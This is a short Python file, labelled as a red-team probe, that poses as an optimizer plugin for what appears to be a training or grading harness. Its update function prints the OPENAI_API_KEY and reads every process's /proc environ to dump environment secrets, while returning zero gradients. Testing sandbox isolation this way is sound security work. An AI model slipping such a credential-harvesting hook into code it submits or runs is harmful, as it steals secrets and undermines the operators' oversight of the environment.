"""Red team: looks for the parent's OPENAI_API_KEY in its environment and in every /proc/*/environ."""
import torch

LR = 1e-3


def init(p, ctx):
    return {}


def update(p, g, state, ctx):
    import os

    print("env:", os.environ.get("OPENAI_API_KEY", "absent"))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    data = f.read()
                print(pid, data.decode(errors="replace").replace("\0", " "))
            except OSError:
                pass
    return torch.zeros_like(p)
